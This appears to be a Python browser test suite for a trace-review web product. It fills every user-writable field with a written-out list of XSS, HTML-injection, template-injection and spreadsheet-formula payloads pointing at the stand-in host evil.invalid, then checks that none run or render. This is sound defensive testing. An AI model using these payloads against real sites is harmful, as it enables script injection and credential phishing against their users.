"""Fourteen hostile texts in every field that anybody can fill: no script runs, nothing is asked of another host."""

import json
import re
from pathlib import Path
from typing import Any

import pytest

from core.model import JudgeVersion, LabelState
from core.store import judgments
from core.workflows.importing import ImportOptions, import_sources
from core.workflows.opening import open_store
from core.workflows.reading import Mapping, Source
from core.workflows.reviewing import record_label
from tests.browser.conftest import OpenTab, StartServer, expect
from tests.browser.product import PAGES, PHONE, Server, Tab
from tests.sorting import define_category, put_into_category

EVIL = "http://evil.invalid"
PAYLOADS = {
    "script": "<script>window.__pwned = 1</script>\"'><script src=http://evil.invalid/a.js></script>",
    "handlers": "<img src=x onerror=\"window.__pwned=2\"><body onload=window.__pwned=2><input autofocus onfocus=window.__pwned=2>",
    "javascript link": "[click](javascript:window.__pwned=3) <a href='javascript:window.__pwned=3'>x</a> javascript:window.__pwned=3",
    "remote image": f"![x]({EVIL}/b.png) ![y][z]\n\n[z]: {EVIL}/c.png <img src='{EVIL}/d.png'> {EVIL}/e.png",
    "svg": f"<svg onload=window.__pwned=4><image href='{EVIL}/f.svg'/><use href='{EVIL}/g.svg#a'/></svg>",
    "data address": "![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) data:text/html,<script>window.__pwned=5</script>",
    "frame": f"<iframe src='{EVIL}/h' srcdoc='<script>parent.__pwned=6</script>'></iframe><object data='{EVIL}/i'></object>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/j'><base href='{EVIL}/'><link rel=stylesheet href='{EVIL}/k.css'>",
    "braces": "{{constructor.constructor('window.__pwned=7')()}} ${window.__pwned=7} #{7*7} {0.__class__} %(x)s $x^2$ $$\\href{javascript:0}{y}$$",
    "right to left": "user \u202egpj.exe\u202c \u2066iso\u2069 \u200b\ufeff \x1b[31mred \x07 e\u0301\u0301\u0301\u0301\u0301\u0301",
    "style": f"<style>@import url({EVIL}/l.css); *{{background:url({EVIL}/m.png)}}</style> <p style=\"background:url({EVIL}/n.png)\">",
    "form": f"<form action='{EVIL}/o'><button formaction='{EVIL}/p'>Sign in</button></form><textarea></textarea></div></div>",
    "comment": "<!--><img src=x onerror=window.__pwned=8>--> ]]> <![CDATA[<script>window.__pwned=8</script>]]> <noscript><p title=\"</noscript><img src=x onerror=window.__pwned=8>\">",
    "formula": "=HYPERLINK(\"http://evil.invalid/q\",\"x\") :material/delete: :red[x] :streamlit: | a | b |\n|---|---|\n# h\n- i\n> q ```\n***",
}  # fmt: skip
ONE_LINE = {name: " ".join(text.split()) for name, text in PAYLOADS.items()}
TEXTS = list(PAYLOADS.values())


def text(number: int) -> str:
    return TEXTS[number % len(TEXTS)]


def record(number: int) -> dict[str, Any]:
    """A trace whose every field is a payload; neighbouring fields hold different ones."""
    n = iter(range(number, number + 40))
    return {
        "id": f"{number} {text(next(n))}",
        "session": text(next(n)),
        "model": text(next(n)),
        "error": text(next(n)),
        "labeler": " ".join(text(next(n)).split())[:80],
        "judge": " ".join(text(next(n)).split())[:60].replace("@", ""),
        "judge version": " ".join(text(next(n)).split())[:60].replace("@", ""),
        "verdict": "fail" if number % 3 else "pass",
        "critique": text(next(n)),
        "category": " ".join(text(next(n)).split())[:100],
        "judged": ("fail", "pass", text(next(n)))[number % 3],
        "judge says": text(next(n)),
        "messages": [
            {"role": "system", "content": text(next(n))},
            {"role": "user", "content": "\n\n".join(TEXTS)},
            {"role": text(next(n)), "name": text(next(n)), "content": text(next(n))},
            {
                "role": "assistant",
                "content": text(next(n)),
                "tool_calls": [
                    {
                        "id": f"call {text(number)}",
                        "type": "function",
                        "function": {"name": text(next(n)), "arguments": json.dumps({text(next(n)): text(next(n))})},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": f"call {text(number)}", "name": text(next(n)), "content": text(next(n))},
            {"role": "assistant", "content": [{"type": "image_url", "image_url": {"url": f"{EVIL}/r.png"}}]},
        ],
        **{f"dim {name}": text(number + place) for place, name in enumerate(ONE_LINE.values())},
    }


MAPPING = """
format = "jsonl"
[trace]
id = "id"
session = "session"
model = "model"
error = "error"
messages = "messages"
[dimensions]
{dimensions}
[[label]]
labeler_path = "labeler"
verdict = "verdict"
pass = ["pass"]
fail = ["fail"]
critique = "critique"
[[judgment]]
judge_path = "judge"
version_path = "judge version"
verdict = "judged"
pass = ["pass"]
fail = ["fail"]
critique = "judge says"
[[judgment]]
judge = "=common <b>"
version = "![v](http://evil.invalid/v.png)"
verdict = "judged"
pass = ["pass"]
fail = ["fail"]
critique = "judge says"
"""


def quoted(words: str) -> str:
    return json.dumps(words, ensure_ascii=True)


@pytest.fixture(scope="module")
def server(start_server: StartServer, tmp_path_factory: pytest.TempPathFactory) -> Server:
    """A database of hostile texts, filled through the same doors as any other, and the product in front of it."""
    started = start_server(demo=False)
    started.stop()
    name = f"{ONE_LINE['remote image'].replace('/', ':')[:80]}.jsonl"
    log = tmp_path_factory.mktemp("hostile") / name
    records = [record(number) for number in range(2 * len(TEXTS))]
    bad_lines = [f'{{"id": "{" ".join(words.split())}' for words in TEXTS]
    log.write_text("\n".join([*(json.dumps(one) for one in records), *bad_lines]) + "\n", encoding="utf-8")
    names = list(ONE_LINE.values())
    dimensions = "\n".join(f"{quoted(' '.join(words.split())[:60])} = {quoted_path(f'dim {words}')}" for words in names)
    mapping = Mapping.from_toml(MAPPING.replace("{dimensions}", dimensions))
    store = open_store(started.db)
    with Source.from_path(log) as source:
        report = import_sources(store, [source], ImportOptions(mapping=mapping))
    assert (report.added, report.bad, report.labels.added) == (28, 14, 28), report.problems[:3]
    expert = "<b>Principal</b> ![x](http://evil.invalid/w.png)"
    for number, one in enumerate(records):
        record_label(
            store, trace_id=one["id"], state=LabelState.FAIL, labeler=expert, critique=text(number), saw_judge=False
        )
    for number, words in enumerate(names):
        category = define_category(
            store, name=words[:80], definition=text(number + 1), fits_when=text(number + 2), not_when=text(number + 3),
            by=expert,
        )  # fmt: skip
        put_into_category(
            store, trace_id=records[number]["id"], category_id=getattr(category, "id", category), by=expert
        )
    with store.write() as cursor:
        for number, words in enumerate(names):
            version = JudgeVersion(
                judge="prompts", version=words[:60].replace("@", ""), model=text(number), prompt=text(number + 1),
                settings={text(number + 2): text(number + 3)}, examples=(records[number]["id"],),
            )  # fmt: skip
            judgments.add_judge_version(cursor, version)
    store.close()
    started.start()
    return started


def quoted_path(key: str) -> str:
    """A key as a path of a mapping: quoted, so that its dots are no steps."""
    return quoted(quoted(key))


def harmless(tab: Tab) -> None:
    """No script of a payload has run, and none of its markup has become part of the page."""
    assert tab.page.evaluate("window.__pwned") is None
    assert tab.page.evaluate(FOREIGN_PARTS) == []
    assert tab.page.url.startswith(tab.server.address)
    tab.check()


# Everything in the page, shadow roots included, that points to another host or would run a script.
FOREIGN_PARTS = """() => {
  const found = []
  const look = root => {
    for (const node of root.querySelectorAll("*")) {
      if (node.shadowRoot) look(node.shadowRoot)
      for (const {name, value} of node.attributes) {
        if (/^on/.test(name)) found.push(`${node.tagName} ${name}`)
        if (["src", "href", "xlink:href", "action", "formaction", "data", "srcdoc", "style"].includes(name) &&
            /evil\\.invalid|javascript:|data:text/i.test(decodeURIComponent(escape(unescape(value)))) &&
            !(name === "href" && new URL(node.href, location).origin === location.origin))
          found.push(`${node.tagName} ${name}=${value}`)
      }
      if (["IFRAME", "OBJECT", "EMBED", "FORM", "BASE"].includes(node.tagName) && /evil/.test(node.outerHTML.slice(0, 500)))
        found.push(node.tagName)
      if (node.tagName === "STYLE" && /evil/.test(node.textContent)) found.push("STYLE")
      if (node.tagName === "SCRIPT" && /__pwned/.test(node.textContent)) found.push("SCRIPT")
    }
  }
  look(document)
  return found
}""".replace("decodeURIComponent(escape(unescape(value)))", "value")

VIEWS = {
    "Home of a phone": "/",
    "Traces with every column": "/traces?fields=Output&fields=Model&fields=Source&fields=Session&fields=Id",
    "Failures, notes": "/failures?tab=notes",
    "Failures, sorting": "/failures?tab=sort",
    "Failures, counts": "/failures?tab=counts&cell=1",
    "Pivot by category": "/pivot?rows=category&cols=none&min_n=1&cell=*%7C*",
    "Trust, pairs": "/trust?view=pairs",
    "Trust, table": "/trust?view=table",
    "Judge of prompts": "/judge?judge=prompts",
}


def unfolded(tab: Tab) -> None:
    """Open whatever is folded away."""
    for fold in tab.page.locator("details:not([open]) > summary").all()[:25]:
        if fold.is_visible():
            fold.click()
    for button in tab.page.get_by_role("button", name=re.compile("^Show all")).all()[:5]:
        button.click()


def test_hostile_texts_are_only_texts_from_page_to_page(open_tab: OpenTab) -> None:
    tab = open_tab("/")
    for path, title in PAGES.items():
        tab.page.locator(".st-key-nav").get_by_role("link", name=title).click()
        tab.page.wait_for_url(f"{tab.server.address}{path}*")
        tab.heading(title if path != "/" else "What is failing")
        unfolded(tab)
        tab.settled()
        harmless(tab)
        assert not tab.overflows(), title


@pytest.mark.parametrize("view", VIEWS)
def test_hostile_texts_are_only_texts_in_every_view(view: str, open_tab: OpenTab) -> None:
    tab = open_tab(**({"viewport": PHONE} if "phone" in view else {}))
    tab.open(VIEWS[view])
    unfolded(tab)
    tab.settled()
    harmless(tab)
    assert not tab.overflows()


def test_every_trace_of_hostile_texts_can_be_read(open_tab: OpenTab) -> None:
    tab = open_tab("/traces")
    for row in range(1, 14):
        tab.click_cell(row, 0)
        tab.settled()
        tab.page.locator(".log article").first.wait_for()
        if row in (1, 8):
            unfolded(tab)
        harmless(tab)
    # The payload is there to be read, as it was typed.
    expect(tab.page.locator(".log")).to_contain_text("<script>window.__pwned = 1</script>", use_inner_text=True)


def test_hostile_texts_in_the_filters_and_in_the_address_do_nothing(open_tab: OpenTab) -> None:
    tab = open_tab("/traces")
    search = tab.page.get_by_role("searchbox", name="Search")
    for words in (PAYLOADS["handlers"], PAYLOADS["remote image"], PAYLOADS["braces"]):
        search.fill(" ".join(words.split()))
        search.press("Enter")
        tab.page.wait_for_url("**q=*")
        tab.settled()
        harmless(tab)
    tab.page.get_by_role("button", name="More filters").click()
    harmless(tab)
    tab.page.goto(
        tab.server.address + "/traces?d.x=" + "%3Cimg%20src%3Dx%20onerror%3Dwindow.__pwned%3D9%3E&sort=%3Cscript%3E"
    )
    tab.page.get_by_text("cannot be applied").first.wait_for()
    harmless(tab)


def test_hostile_texts_are_reviewed_by_somebody_with_a_hostile_name(open_tab: OpenTab) -> None:
    tab = open_tab("/review")
    tab.give_name(" ".join(PAYLOADS["handlers"].split())[:80])
    harmless(tab)
    tab.page.keyboard.press("Escape")
    tab.open("/review?q=Sign+in")
    tab.page.locator(".st-key-offer_slice button").click()
    tab.page.locator(".log article").first.wait_for()
    for words in (PAYLOADS["script"], PAYLOADS["refresh"]):
        at = tab.page.locator(".trace-id").inner_text()
        tab.page.keyboard.press("2")
        tab.page.locator(".panel textarea").fill(words)
        tab.page.keyboard.press("Control+Enter")
        tab.page.locator(".trace-id").filter(has_not_text=at).wait_for()
        harmless(tab)
    tab.page.locator(".earlier-item").first.click()
    harmless(tab)


def test_a_hostile_file_is_checked_before_it_is_imported(open_tab: OpenTab, tmp_path: Path) -> None:
    tab = open_tab("/import")
    log = tmp_path / "<img src=x onerror=window.__pwned=10>.jsonl"
    log.write_text(
        "\n".join([*(json.dumps(record(number)) for number in range(3)), "<script>window.__pwned=11</script>"])
    )
    tab.page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(str(log))
    tab.page.locator(".st-key-import button").wait_for()
    tab.settled()
    unfolded(tab)
    tab.settled()
    harmless(tab)
    tab.page.locator(".st-key-import button").click()
    tab.page.get_by_text("3 Done").wait_for(timeout=60_000)
    harmless(tab)
